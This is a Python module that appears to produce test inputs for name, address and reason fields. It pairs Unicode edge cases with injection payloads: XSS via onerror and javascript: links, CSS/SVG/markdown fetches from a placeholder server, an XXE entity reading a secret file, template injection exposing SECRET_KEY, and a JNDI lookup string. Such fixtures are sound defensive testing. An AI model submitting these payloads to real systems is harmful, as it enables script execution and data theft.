"""What somebody could write in place of a name, an address or a reason to make a program obey."""

from __future__ import annotations

# {secret} is the address of a file that must not be read, {site} that of a server that must not
# be asked.
ASKS = (
    "<img src={site}/a.png>",
    "<img src={secret}>",
    '"><img src="{site}/b.png" onerror=alert(1)>',
    "'><img srcset='{site}/c.png 2x'>",
    "<link rel=stylesheet href={site}/d.css>",
    "<link rel=attachment href={secret}>",
    "<style>@import url({site}/e.css)</style>",
    "<style>@import '{secret}'</style>",
    "<style>body{{background:url({site}/f.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({secret})}}*{{font-family:x}}</style>",
    '<p style="background:url({site}/g.png)">',
    '<p style="content:url({secret})">',
    "<svg><image href={site}/h.png /></svg>",
    "<svg><use href={secret}#x></use></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    "<object data={secret}></object>",
    "<embed src={site}/i.svg>",
    "<iframe src={secret}></iframe>",
    "<base href={site}/>",
    "<meta http-equiv=refresh content='0;url={site}/j'>",
    "<script src={site}/k.js></script>",
    "<img src=data:image/svg+xml,%3Csvg%20onload=alert(1)%3E>",
    "<a href=javascript:alert(1)>Pat</a>",
    "![x]({site}/l.png)",
    "![x]({secret})",
    "[x](javascript:alert(1))",
    "[x]: {site}/m",
    "<{site}/n>",
    "url({site}/o.png)",
    "@import url({secret});",
    "}}*{{background:url({site}/p.png)}}",
    "</style></title></textarea></script><img src={site}/q.png>",
    "]]><!--><img src={secret}>",
    "<!ENTITY x SYSTEM '{secret}'>&x;",
    "<?xml-stylesheet href='{site}/r.css'?>",
    "{{% include '{secret}' %}}{{{{ settings.SECRET_KEY }}}}",
    "${{jndi:ldap://127.0.0.1/x}}",
)
# What is hard to set, not to withstand.
SHAPES = (
    '=HYPERLINK("http://example.com","x")',
    "Pat " + "\u0301\u0300\u0302" * 60,  # a flood of accents
    "\u202eelpmaxE taP\u202c",  # read from the right
    "עברית עם English ועוד",
    "اسم عربي طويل",
    "\u200b\u200d\ufeff\u2066Pat\u2069",  # what nobody sees
    "山田太郎",
    "🧑‍👩‍👧‍👦" * 20,
    "x" * 200,
    "W " * 100,
    "&lt;b&gt; &amp;amp; &#0; &#x202e;",
    "\\u003cimg\\u003e\\x3cscript\\x3e",
    "Pat\x7f\x85\u2028\u2029Example",
)


def texts(*, secret: str, site: str) -> list[str]:
    """Each of them, asking for this file and this server."""
    return [text.format(secret=secret, site=site) for text in ASKS] + list(SHAPES)
